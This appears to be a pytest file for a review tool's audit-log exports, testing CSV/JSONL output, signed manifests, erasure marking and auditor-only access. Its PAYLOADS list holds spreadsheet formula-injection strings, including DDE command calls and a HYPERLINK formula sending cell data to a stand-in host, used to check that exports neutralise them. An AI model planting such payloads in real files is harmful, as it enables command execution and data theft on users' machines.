"""Exports: files that spreadsheets cannot run and programs can prove, and their manifest."""

import csv
import hashlib
import json
import re
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import rfc8785
from hypothesis import given
from hypothesis import strategies as st

from agents.models import WorkspaceRole
from agents.people import Member, find_member
from reviews import exports
from reviews.audit import erasure, keys, notes, sealing
from reviews.audit.actions import Action
from reviews.audit.actors import SYSTEM
from reviews.audit.clock import told_by
from reviews.audit.models import Entry, Leaf
from reviews.errors import InvalidChange, NotAllowed
from reviews.exports import Period, count_waiting, export_history, export_path, record_download
from reviews.models import Export
from tests import build
from tests.reviews.audit.logs import NOW, change, fill, sign, write

ALL = Period()
PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"here")',
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@import",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\nplain",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003-1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060@SUM(1)",
    "\x0b=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    " \uff1dcmd",
    "safe;=1+1",
    "safe\t=1+1",
    "safe\n=cmd|'/c calc'!A0",
    "safe;  \uff1d1",
]


@pytest.fixture(autouse=True)
def own_folder(settings: Any, tmp_path: Path) -> Path:
    settings.DATA_DIR = tmp_path
    settings.AUDIT_KEK = ""
    return tmp_path


@pytest.fixture
def auditor(db: None) -> Member:
    within = build.workspace("northwind")
    member = find_member(build.person("Aiko", within=within, role=WorkspaceRole.AUDITOR), within)
    assert member is not None
    return member


def note(reason: str) -> Entry:
    """Put free text on the record of northwind."""
    return write(1, workspace="northwind", values={"reason": reason})


def make(member: Member, form: str = "jsonl", period: Period = ALL) -> tuple[Export, Path]:
    sealing.checkpoint(NOW)
    made = export_history(member.workspace, form=form, period=period, by=member)
    return made, export_path(member.workspace, made.number, form)


def lines_of(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="ascii").split("\n")[:-1]]


def cells_of(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


TRIMMED = re.compile(r"[\s\x00-\x1f\u200b-\u200f\u2060-\u2064\ufeff]")
STARTS = set("=+-@\uff1d\uff0b\uff0d\uff20")


def may_run(cell: str) -> bool:
    """Say whether a spreadsheet could take the cell, or a part it splits off, for a formula."""
    parts = [TRIMMED.sub("", part)[:1] for part in re.split(r"[;\t\r\n]", cell)]
    return cell[:1] in {"\t", "\r", "\n"} or not STARTS.isdisjoint(parts)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_run_as_a_formula_gets_an_apostrophe(payload):
    assert may_run(payload)
    safe = str(exports.safe_cell(payload))
    assert not may_run(safe)
    assert safe.replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize(
    "cell", ["P-1042", "a=b", "Ask first, then pay.", "", "3 - 1", "'=1", "a;b"]
)
def test_a_harmless_cell_stays_as_it_is(cell):
    assert exports.safe_cell(cell) == cell


@pytest.mark.parametrize("cell", [7, -7, None])
def test_numbers_stay_numbers(cell):
    assert exports.safe_cell(cell) is cell


ODD = list("=+-@;\t\r\n '\"a,\uff1d\u3000\u200b\ufeff\u00a0")


@given(st.text(alphabet=st.sampled_from(ODD), max_size=12))
def test_no_text_at_all_runs_as_a_formula(text):
    assert not may_run(str(exports.safe_cell(text)))


def test_every_payload_in_the_log_is_text_when_the_file_is_read_back(auditor):
    for payload in PAYLOADS:
        note(payload)
    _, path = make(auditor, "csv")
    cells = cells_of(path)
    reasons = [row["reason"] for row in cells if row["action"] == "decision.approved"]
    assert reasons == [exports.safe_cell(payload) for payload in PAYLOADS]
    assert not [cell for row in cells for cell in row.values() if may_run(cell)]
    # No program that splits at semicolons finds a formula either.
    with path.open(encoding="utf-8", newline="") as file:
        for row in csv.reader(file, delimiter=";"):
            assert not [cell for cell in row if cell.lstrip(" \u00a0\u3000\u2003").startswith("=")]


def test_json_lines_spell_the_bytes_that_were_sealed(auditor):
    note("Gro\u00dfe \u2028 Z\u00fcge \u202e and \U0001f600")
    _, path = make(auditor)
    found = lines_of(path)
    assert found
    for line in found:
        spelled = rfc8785.dumps(line["body"])
        assert hashlib.sha256(b"\x00" + spelled).hexdigest() == line["leaf_hash"]
        leaf = Leaf.objects.get(index=line["leaf"])
        assert (leaf.hash.hex(), leaf.number) == (line["leaf_hash"], line["number"])


def test_texts_come_out_exactly(auditor):
    for payload in PAYLOADS:
        note(payload)
    _, path = make(auditor)
    texts = [line["values"].get("reason") for line in lines_of(path)]
    assert [text for text in texts if text is not None] == PAYLOADS


def test_numbers_follow_each_other_without_a_gap_and_only_of_this_workspace(auditor):
    fill(9)
    note("ours")
    made, path = make(auditor)
    found = lines_of(path)
    assert [line["number"] for line in found] == list(range(1, made.rows + 1))
    assert {line["body"]["workspace"] for line in found} == {"northwind"}


def test_the_manifest_names_bytes_rows_numbers_checkpoint_and_keys(auditor):
    note("one")
    made, path = make(auditor)
    manifest = exports.manifest_of(made)
    assert manifest["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest() == made.sha256
    assert manifest["rows"] == len(lines_of(path)) == made.rows
    assert (manifest["first_number"], manifest["last_number"]) == (1, made.rows)
    assert (manifest["waiting"], manifest["changed"], manifest["left_out"]) == (0, 0, [])
    assert manifest["test_items"] == {"count": 0, "numbers": []}
    assert manifest["file"] == path.name == made.file_name
    verifiers = tuple(notes.Verifier.from_text(text) for text in manifest["verifiers"])
    stated = notes.open_checkpoint(manifest["checkpoint"], verifiers, keys.origin())
    assert stated.head.size >= lines_of(path)[-1]["leaf"]
    assert json.loads(json.dumps(manifest)) == manifest


def show_item(number: int, day: int, workspace: str = "northwind") -> None:
    """Put on the record that a test item was shown, at the end of a day."""
    with told_by(lambda: datetime(2026, 11, day, 23, 59, tzinfo=UTC)):
        write(
            action=Action.TEST_ITEM_SHOWN,
            workspace=workspace,
            actor=SYSTEM,
            object=f"test-item:P-{number}",
            after={"case": "polite", "to": "p7", "after": "P-1"},
            values={},
        )


@pytest.mark.parametrize("form", ["csv", "jsonl"])
@pytest.mark.parametrize(
    ("period", "numbers"),
    [
        (ALL, [7, 9, 12]),
        (Period(date(2026, 11, 20), date(2026, 11, 20)), [9]),
        (Period(date(2026, 11, 20), None), [9, 12]),
        (Period(None, date(2026, 11, 18)), []),
    ],
)
def test_the_manifest_lists_test_items_of_the_period_apart(auditor, form, period, numbers):
    for number, day in ((7, 19), (9, 20), (12, 21)):
        show_item(number, day)
    show_item(8, 20, "acme")
    note("a decision about P-1")

    made, _ = make(auditor, form, period)

    listed = {"count": len(numbers), "numbers": numbers}
    assert exports.manifest_of(made)["test_items"] == listed


def test_a_test_item_whose_entry_was_changed_is_left_out_of_both(auditor):
    show_item(7, 19)
    row = Entry.objects.get(action=str(Action.TEST_ITEM_SHOWN))
    sign()
    change("audit_entry", "id", row.pk, body=row.body.replace("P-7", "P-8"))

    made, _ = make(auditor)

    manifest = exports.manifest_of(made)
    assert manifest["test_items"] == {"count": 0, "numbers": []}
    assert manifest["left_out"] == [Leaf.objects.get(entry=row.pk).number]


def test_erased_texts_are_marked_in_both_formats(auditor):
    note("Ann asked")
    erasure.erase_subject(
        "northwind/P-1", workspace="northwind", actor=SYSTEM, values={"reason": "On request"}
    )
    _, path = make(auditor, "csv")
    (row,) = [row for row in cells_of(path) if row["action"] == "decision.approved"]
    assert row["reason"] == "[erased]"
    _, path = make(auditor)
    (line,) = [one for one in lines_of(path) if one["body"]["action"] == "decision.approved"]
    assert (line["values"]["reason"], line["erased"]) == (None, ["reason"])


def at(moment: datetime, reason: str) -> None:
    with told_by(lambda: moment):
        note(reason)


@pytest.mark.parametrize(
    ("since", "until", "expected"),
    [
        (date(2026, 11, 20), date(2026, 11, 20), ["first", "last"]),
        (date(2026, 11, 20), None, ["first", "last", "next"]),
        (None, date(2026, 11, 19), ["before"]),
        (date(2026, 11, 21), date(2026, 11, 21), ["next"]),
        (date(2027, 1, 1), None, []),
    ],
)
def test_days_of_a_period_are_whole_days_in_utc(auditor, since, until, expected):
    at(datetime(2026, 11, 19, 23, 59, 59, 999999, tzinfo=UTC), "before")
    at(datetime(2026, 11, 20, 0, 0, tzinfo=UTC), "first")
    at(datetime(2026, 11, 20, 23, 59, 59, 999999, tzinfo=UTC), "last")
    at(datetime(2026, 11, 21, 0, 0, tzinfo=UTC), "next")
    _, path = make(auditor, period=Period(since, until))
    reasons = [line["values"].get("reason") for line in lines_of(path)]
    ours = {"before", "first", "last", "next"}
    assert [reason for reason in reasons if reason in ours] == expected


def test_an_empty_period_gives_an_empty_file_and_says_so(auditor):
    made, path = make(auditor, "csv", Period(date(1999, 1, 1), date(1999, 1, 2)))
    assert (made.rows, cells_of(path)) == (0, [])
    manifest = exports.manifest_of(made)
    assert (manifest["first_number"], manifest["last_number"]) == (None, None)
    assert (manifest["since"], manifest["until"]) == ("1999-01-01", "1999-01-02")


def test_an_export_is_itself_an_entry(auditor):
    made, _ = make(auditor)
    entry = Entry.objects.filter(action=str(Action.EXPORT_MADE)).get()
    after = json.loads(entry.body)["after"]
    assert (entry.object, entry.actor_id) == (str(made), auditor.person.public_id)
    assert (after["rows"], after["sha256"]) == (made.rows, made.sha256)


def test_a_download_is_an_entry(auditor):
    made, path = make(auditor)
    assert record_download(made, by=auditor) == path
    entry = Entry.objects.filter(action=str(Action.EXPORT_DOWNLOADED)).get()
    assert (entry.object, entry.actor_id) == (str(made), auditor.person.public_id)


@pytest.mark.parametrize("role", [WorkspaceRole.REVIEWER, WorkspaceRole.LEAD, WorkspaceRole.ADMIN])
def test_only_an_auditor_takes_the_history_out(auditor, role):
    made, _ = make(auditor)
    space = auditor.workspace
    member = find_member(build.person("Rita", within=space, role=role), space)
    assert member is not None
    with pytest.raises(NotAllowed):
        export_history(space, form="csv", period=ALL, by=member)
    with pytest.raises(NotAllowed):
        record_download(made, by=member)
    assert Export.objects.count() == 1


def test_an_unknown_format_and_a_period_that_ends_before_it_begins_are_refused(auditor):
    with pytest.raises(InvalidChange, match="'xlsx' is no format"):
        export_history(auditor.workspace, form="xlsx", period=ALL, by=auditor)
    backwards = Period(date(2026, 1, 2), date(2026, 1, 1))
    with pytest.raises(InvalidChange, match="The period ends on 2026-01-01"):
        export_history(auditor.workspace, form="csv", period=backwards, by=auditor)
    assert not Export.objects.exists()


def test_a_file_that_is_gone_is_said_and_nobody_took_it(auditor):
    made, path = make(auditor)
    path.unlink()
    with pytest.raises(InvalidChange, match=f"The file of {made} is gone"):
        record_download(made, by=auditor)
    assert not Entry.objects.filter(action=str(Action.EXPORT_DOWNLOADED)).exists()


def files_under(folder: Path) -> list[Path]:
    return [path for path in (folder / "exports").rglob("*") if path.is_file()]


def test_a_failure_while_writing_leaves_nothing_behind(auditor, own_folder, monkeypatch):
    note("one")
    sign()

    def fail(*_: object) -> object:
        raise OSError("No space left on device")

    monkeypatch.setattr(exports, "csv_row", fail)
    with pytest.raises(OSError, match="No space left"):
        export_history(auditor.workspace, form="csv", period=ALL, by=auditor)
    assert not Export.objects.exists()
    assert not Entry.objects.filter(action=str(Action.EXPORT_MADE)).exists()
    assert files_under(own_folder) == []


def test_where_the_entry_cannot_be_written_there_is_no_export(auditor, own_folder):
    note("one")
    sign()
    keys.kek_path().unlink()
    with pytest.raises(InvalidChange, match="The log cannot be read out"):
        export_history(auditor.workspace, form="csv", period=ALL, by=auditor)
    assert not Export.objects.exists()
    assert files_under(own_folder) == []


def test_an_entry_whose_row_was_changed_is_left_out_by_number(auditor):
    written = note("one")
    note("two")
    last = note("three")
    sign()
    for entry in (written, last):
        change("audit_entry", "id", entry.pk, body=entry.body.replace("approved", "rejected"))
    made, path = make(auditor)
    manifest = exports.manifest_of(made)
    gone = [Leaf.objects.get(entry=entry.pk).number for entry in (written, last)]
    assert (manifest["changed"], manifest["left_out"]) == (2, gone)
    assert not {line["number"] for line in lines_of(path)} & set(gone)


@pytest.mark.postgresql
def test_entries_that_wait_for_their_place_are_counted_and_not_exported(auditor):
    sign()
    note("late")
    assert count_waiting(auditor.workspace) == 1
    made = export_history(auditor.workspace, form="jsonl", period=ALL, by=auditor)
    assert exports.manifest_of(made)["waiting"] == 1
    path = export_path(auditor.workspace, made.number, "jsonl")
    assert "late" not in path.read_text(encoding="ascii")


def test_only_the_owner_of_the_installation_reads_the_files(auditor):
    _, path = make(auditor)
    assert path.stat().st_mode & 0o077 == 0
    assert path.parent.stat().st_mode & 0o077 == 0
